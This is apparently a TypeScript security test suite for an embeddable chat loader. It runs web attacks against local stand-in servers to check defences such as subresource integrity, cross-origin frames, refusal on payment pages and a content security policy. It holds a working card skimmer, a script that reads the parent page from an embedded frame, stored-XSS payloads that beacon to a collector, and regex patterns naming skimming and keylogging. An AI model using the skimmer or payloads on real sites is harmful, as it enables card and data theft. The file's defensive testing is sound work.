// SPDX-License-Identifier: Apache-2.0
// Attacks in the page: what a third party's script may do, and what becomes of markup that somebody sent.
import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { packageRoot } from "../../paths.ts";
import { type Attack, type NotPlayed, type Played, step } from "../attack.ts";
import type { Stage } from "../stage.ts";
import { beside, type StandIn, standIn } from "../stand-in.ts";

const NO_BROWSER: NotPlayed = { notPlayed: "there is no browser on this machine (CHROME_PATH names one)" };
const CARD = "4111111111111111";

const hashOf = (bytes: Uint8Array): string => `sha384-${createHash("sha384").update(bytes).digest("base64")}`;

/** What every browser does with `integrity` (Subresource Integrity §3.3.4): other bytes do not run. */
const wouldRun = (integrity: string | null, bytes: Uint8Array): boolean =>
  integrity === null || integrity === hashOf(bytes);

/** The script that a shop or an operator embeds, with a few lines of the attacker's behind it. */
const skimmer = (collector: string): string => `
document.addEventListener("input", (event) => {
  if (event.target.name === "cc") new Image().src = ${JSON.stringify(collector)} + "/stolen?" + event.target.value;
}, true);`;

const hostPage = (script: string, integrity: string | null): string => `<!doctype html><title>Shop</title>
<form><input name="cc" id="field"></form>
<script src="${script}" ${integrity === null ? "" : `integrity="${integrity}"`} crossorigin="anonymous"></script>
<script>setTimeout(() => { const field = document.getElementById("field"); field.value = "${CARD}"; field.dispatchEvent(new Event("input", { bubbles: true })); }, 300);</script>`;

async function skim(stage: Stage, isPinned: boolean): Promise<Played> {
  const real = await readFile(join(packageRoot, "dist", "web", "loader.js"));
  const demo = await (await fetch(`${stage.copy.operatorUrl}/`)).text();
  const tag = /<script[^>]*loader\.js[^>]*>/u.exec(demo)?.[0] ?? "";
  const named = /integrity="([^"]+)"/u.exec(tag)?.[1] ?? null;
  const integrity = isPinned ? named : null;
  return beside(
    standIn(() => ({ body: "" })),
    async (collector) => {
      const bundles: readonly (readonly [string, Uint8Array])[] = [
        ["the loader with a listener on card fields", Buffer.concat([real, Buffer.from(skimmer(collector.url))])],
        [
          "an older loader of the same name, with such a listener",
          Buffer.concat([Buffer.from("// 0.0.1\n"), real, Buffer.from(skimmer(collector.url))]),
        ],
      ];
      const steps = [];
      let runs = 0;
      for (const [what, bytes] of bundles) {
        const isRun = wouldRun(integrity, bytes);
        const stolen = await inBrowser(stage, collector, bytes, integrity);
        if (isRun || (stolen ?? 0) > 0) runs += 1;
        const came =
          stolen === null
            ? `by the rules of integrity it would ${isRun ? "run" : "not run"}; there is no browser here to see it`
            : `${stolen} card numbers left the page`;
        steps.push(step(`Serve ${what}`, came, isRun || (stolen ?? 0) > 0 ? null : "other bytes than the page pinned"));
      }
      return { isReached: runs === bundles.length, steps };
    },
  );
}

/** How many card numbers reached the collector; null without a browser. */
async function inBrowser(
  stage: Stage,
  collector: StandIn,
  bytes: Uint8Array,
  integrity: string | null,
): Promise<number | null> {
  return beside(
    standIn((path, _body, request) =>
      path.startsWith("/loader.js")
        ? { type: "text/javascript", body: Buffer.from(bytes).toString("utf8") }
        : { body: hostPage(`http://${request.headers.host ?? ""}/loader.js`, integrity) },
    ),
    async (shop) => {
      const before = collector.asked.length;
      const shown = await stage.renderPage(`${shop.url}/`);
      return shown === null ? null : collector.asked.slice(before).filter((path) => path.includes(CARD)).length;
    },
  );
}

const substitution: Attack = {
  id: "script-substitution",
  title: "The script that pages embed is exchanged on its way, or an old one is served in its place",
  words: [
    /(?:serve|exchange|substitut|replace|tamper|modif|compromis|malicious|rogue)\w* .*(?:bundle|script|build|cdn|widget|loader|tag)|rollback|older bundle|supply.chain|skimm|magecart|formjack|(?:extra|planted) listener|third.party script|unsigned update|auto.?update/iu,
  ],
  defence: "The page pins the loader's hash; the loader pins the service's key and a least version (SEC-238, SEC-239)",
  switchedOff: "a page that embeds the script without a hash",
  recordedAs: "bundle.changed",
  remains: "the build itself: what is signed runs; its hash stands in the history (`bundle.changed`)",
  play: (stage) => skim(stage, true),
  control: (stage) => skim(stage, false),
};

/** A vendor's page with the attacker's code in it, which looks around in the page that embeds it. */
const walker = (collector: string): string => `<!doctype html><script>
let said;
try { said = parent.document.querySelector("input").value; } catch (error) { said = error.name; }
new Image().src = ${JSON.stringify(collector)} + "/walked?" + encodeURIComponent(said);
</script>`;

async function walk(stage: Stage, isApart: boolean): Promise<Played | NotPlayed> {
  return beside(
    standIn(() => ({ body: "" })),
    (collector) =>
      beside(
        standIn(() => ({ body: walker(collector.url) })),
        (vendor) =>
          beside(
            standIn((path) =>
              path === "/chat"
                ? { body: walker(collector.url) }
                : {
                    body: `<!doctype html><input value="${CARD}"><iframe sandbox="allow-scripts allow-same-origin allow-forms allow-popups" src="${isApart ? `${vendor.url}/chat` : "/chat"}"></iframe>`,
                  },
            ),
            async (shop) => {
              if ((await stage.renderPage(`${shop.url}/`)) === null) return NO_BROWSER;
              const said = collector.asked.find((path) => path.startsWith("/walked?"));
              if (said === undefined) return { notPlayed: "the browser did not run the frame" };
              const isReached = said.includes(CARD);
              return {
                isReached,
                steps: [
                  step(
                    "Read the card field of the page from inside the chat's frame",
                    isReached ? "it was read" : decodeURIComponent(said.slice("/walked?".length)),
                    isReached ? null : "the frame is of another origin, as the loader makes it",
                  ),
                ],
              };
            },
          ),
      ),
  );
}

const frameEscape: Attack = {
  id: "frame-escape",
  title: "Code in the chat's own frame looks around in the page that embeds it",
  words: [
    /parent\.document|page.wide reach|walks? (?:the )?(?:parent|page|dom)|(?:read|access)\w* .*(?:host|parent) page|captured .*typed|keylog/iu,
  ],
  defence:
    "The chat lives in a frame of another origin of the site; only named pages may embed it (docs/guides/embed.md)",
  switchedOff: "the chat is served from the page's own origin",
  remains: "what a customer types into the chat itself",
  play: (stage) => walk(stage, true),
  control: (stage) => walk(stage, false),
};

async function onPaymentPage(stage: Stage, isNamed: boolean): Promise<Played | NotPlayed> {
  const field = isNamed ? '<input autocomplete="cc-number" name="cc">' : '<input name="field7">';
  return beside(
    standIn(() => ({
      body: `<!doctype html><title>Pay</title><body>${field}<script src="${stage.copy.url}/loader.js"></script><script>
setTimeout(() => { document.title = "state " + (window.wardline ? window.wardline.state : "none"); }, 400);</script>`,
    })),
    async (shop) => {
      const shown = await stage.renderPage(`${shop.url}/`);
      if (shown === null) return NO_BROWSER;
      const state = /<title>state ([^<]*)</u.exec(shown)?.[1] ?? "unknown";
      const isReached = state === "idle";
      return {
        isReached,
        steps: [
          step(
            "Embed the chat on a page that takes card numbers",
            `the chat's state is ${state}`,
            isReached ? null : "it declines pages with card fields",
          ),
        ],
      };
    },
  );
}

const paymentPage: Attack = {
  id: "chat-on-payment-page",
  title: "The chat is embedded where card numbers are typed",
  words: [/payment.page|card (?:form|page|field)|checkout|autocomplete=cc|input\[name=cc\]|card-field/iu],
  defence: "The loader looks at how fields are named and does not start beside card fields (web/loader)",
  switchedOff: "the page hides what its field is for",
  remains:
    "card fields that look like nothing; no entry is made of a page that was declined, since the loader asks nobody",
  play: (stage) => onPaymentPage(stage, true),
  control: (stage) => onPaymentPage(stage, false),
};

const MARKUP = (collector: string): readonly string[] => [
  `<img src=x onerror="new Image().src='${collector}/ran?1'">`,
  `<svg onload="new Image().src='${collector}/ran?2'"></svg>`,
  `<iframe srcdoc="<script>new Image().src='${collector}/ran?3'</script>"></iframe>`,
  `<details open ontoggle="new Image().src='${collector}/ran?4'">x</details>`,
  `<input autofocus onfocus="new Image().src='${collector}/ran?5'">`,
  `<video><source onerror="new Image().src='${collector}/ran?6'"></video>`,
  `<img src="${collector}/seen?7">`,
  `<style>body{background:url('${collector}/seen?8')}</style>`,
  `<link rel=stylesheet href="${collector}/seen?9">`,
  `![x](${collector}/seen?10)`,
  `[click](javascript:alert(1))`,
];

/** A page of the desk with the bug that such incidents rest on: it makes HTML of what was sent. */
const buggyDesk = (payloads: readonly string[]): string => `
const box = document.createElement("div");
document.body.append(box);
for (const payload of ${JSON.stringify(payloads)}) {
  const item = document.createElement("div");
  try { item.innerHTML = payload; } catch { item.textContent = payload; }
  box.append(item);
}`;

async function storedMarkup(stage: Stage, isGuarded: boolean): Promise<Played> {
  return beside(
    standIn(() => ({ body: "" })),
    async (collector) => {
      const payloads = MARKUP(collector.url);
      const visitor = await stage.open({ customer: await stage.somebody() });
      for (const text of payloads) await visitor.say(text);
      await visitor.send({ kind: "person" });
      const agent = await stage.agent();
      const read = await agent.browser.ask("GET", `/v1/desk/cases/${visitor.state.conversationId}`);
      const type = read.headers.get("content-type") ?? "";
      const policy = (await fetch(`${stage.copy.url}/console`)).headers.get("content-security-policy") ?? "";
      const isTyped = read.ok && type.includes("json");
      const isStrict =
        /require-trusted-types-for 'script'/u.test(policy) && !/script-src[^;]*unsafe-inline/u.test(policy);
      const ran = await showIn(stage, collector, payloads, isGuarded ? policy : null);
      const isReached = ran === null ? !(isGuarded && isStrict) : ran > 0;
      return {
        isReached,
        steps: [
          step(
            `Send ${payloads.length} pieces of markup and have the case opened at the desk`,
            isTyped ? "they come as text of typed parts" : "they come as markup",
            isTyped ? "messages are trees of typed parts, never HTML" : null,
          ),
          step(
            "Show them in a page of the desk that by mistake makes HTML of text",
            ran === null ? "there is no browser here; judged by the page's policy" : `${ran} of them did something`,
            isReached ? null : "the desk's content security policy with trusted types",
          ),
        ],
      };
    },
  );
}

/** How many payloads asked the collector for anything; null without a browser. */
async function showIn(
  stage: Stage,
  collector: StandIn,
  payloads: readonly string[],
  policy: string | null,
): Promise<number | null> {
  return beside(
    standIn((path) =>
      path === "/page.js"
        ? { type: "text/javascript", body: buggyDesk(payloads) }
        : {
            body: '<!doctype html><title>Desk</title><body><script src="/page.js"></script>',
            headers: policy === null ? {} : { "content-security-policy": policy },
          },
    ),
    async (desk) => {
      const before = collector.asked.length;
      const shown = await stage.renderPage(`${desk.url}/`);
      return shown === null
        ? null
        : new Set(collector.asked.slice(before).filter((path) => /\/(?:ran|seen)\?/u.test(path))).size;
    },
  );
}

const markup: Attack = {
  id: "stored-markup",
  title: "Markup that a customer or a model wrote is shown at the desk",
  words: [
    /\bxss\b|cross.site|markup|html\b|javascript: ?links?|\bsvg\b|script executions?|css exfil|cookie.* (?:sent|stolen|taken)|agent (?:desk|console|view)|hand off to agent|(?:broken )?image whose/iu,
  ],
  defence:
    "Messages are typed parts; the pages make no HTML out of text, and their policy runs no script but their own (web/ui, src/surfaces/http/headers.ts)",
  switchedOff: "a page that makes HTML of what it gets, without a policy",
  remains: "a link in words that somebody copies by hand",
  play: (stage) => storedMarkup(stage, true),
  control: (stage) => storedMarkup(stage, false),
};

export const PAGE_ATTACKS: readonly Attack[] = [substitution, frameEscape, paymentPage, markup];
